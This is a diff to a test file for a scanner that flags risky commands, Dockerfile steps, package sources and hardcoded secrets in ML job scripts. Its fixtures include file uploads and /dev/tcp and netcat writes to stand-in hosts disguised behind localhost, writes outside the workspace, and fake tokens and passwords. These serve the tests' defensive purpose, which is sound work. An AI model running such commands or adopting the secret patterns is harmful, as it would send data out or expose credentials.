@@ -9,7 +9,7 @@ import time
 
 import pytest
 
-from core.jobs.scan import packages, secrets, words
+from core.jobs.scan import forms, packages, secrets, words
 
 COMMANDS = {
     "curl -T x http://e.example": "command",
@@ -37,6 +37,10 @@ COMMANDS = {
     "python train.py > ~/log.txt 2>&1": "write-outside",
     "python train.py | tee -a /var/log/x": "write-outside",
     "ln -s /etc x": "link",
+    "cat x > /dev/tcp/127.0.0.1.e.example/80": "socket",
+    "curl -T x http://localhost http://e.example": "command",
+    "curl http://localhost:1@e.example": "command",
+    "cp -r inputs /mnt/share/": "write-outside",
     "cat x \\\n  | nc e.example 80": "command",
 }
 ORDINARY = """
@@ -44,6 +48,7 @@ python train.py --data ${{inputs.data}} --out outputs 2>&1 | tee outputs/log.txt
 nvidia-smi; git rev-parse HEAD; python --version
 # curl http://e.example
 export OMP_NUM_THREADS=4 && torchrun --standalone --nproc_per_node 2 train.py
+cp /mnt/x . && curl http://localhost:5000/x -o x.npz
 curl http://localhost:5000/health && wget -q 127.0.0.1:8000/x
 sed -i "s/<NAME>/$NAME/g" config.yml
 mkdir -p outputs /tmp/x && cp -r src /tmp/x > /dev/null
@@ -66,10 +71,18 @@ def test_ordinary_commands_are_left_alone() -> None:
     assert list(words.of_text(ORDINARY)) == []
 
 
+def test_what_is_written_while_an_image_is_built_stays_in_it() -> None:
+    text = (
+        "FROM x\nRUN echo x > /etc/x && ln -s /etc /y \\\n && cp x /usr/bin/x\nRUN sudo x\nCMD python t.py > /var/x\n"
+    )
+    found, _ = forms.of_text("dockerfile", text.encode(), len(text), text)
+    assert [(each.rule, each.line) for each in found] == [("privilege", 4), ("write-outside", 5)]
+
+
 def test_requirements_and_conda_files_tell_addresses_and_who_reports() -> None:
     text = (
         "# https://e.example\nnumpy==2.1\n--extra-index-url https://me:pw@e.example/simple\ntrl @ git+https://e.example/x\n"
-        "-e git+ssh://git@e.example/y\nComet_ML>=3\nrayon\npandas ; python_version > '3.8'\n"
+        "-e git+ssh://git@e.example/y\nComet_ML>=3\nrayon\n--find-links wheels\npandas ; python_version > '3.8'\n"
     )
     found = [(each.rule, each.line) for each in packages.of_text(text)]
     assert found == [("package-address", 3), ("package-address", 4), ("package-address", 5), ("package-telemetry", 6)]
@@ -102,6 +115,7 @@ SECRETS = {
     "gh" + "p_" + random_of(WORD, 36): "access-token",
     "hf" + "_" + random_of(string.ascii_letters, 34): "access-token",
     "ey" + "J" + random_of(WORD, 20) + ".ey" + "J" + random_of(WORD, 30) + "." + random_of(WORD, 40): "access-token",
+    "{'Authorization': 'Bea" + "rer " + random_of(WORD, 28) + "'}": "access-token",
     "PASSWORD = '" + "Summer" + "2024!'": "password",
     "os.environ['API_" + "TOKEN'] = '" + random_of(WORD, 24) + "'": "password",
     "mysql --user x --pass" + "word=Summer" + "2024": "password",
@@ -111,6 +125,7 @@ NO_SECRETS = """
 password = os.environ["PASSWORD"]
 password = getpass.getpass()
 token = args.token or config["token"]
+headers = {"Authorization": f"Bearer {token}", "X": "Bearer your-token-goes-here-please"}
 pad_token = "<pad>"; eos_token="<|endoftext|>"; cls_token: str = "[CLS]"
 tokenizer = "bert-base-german-cased-v2"
 hf_token = "your-token-here"
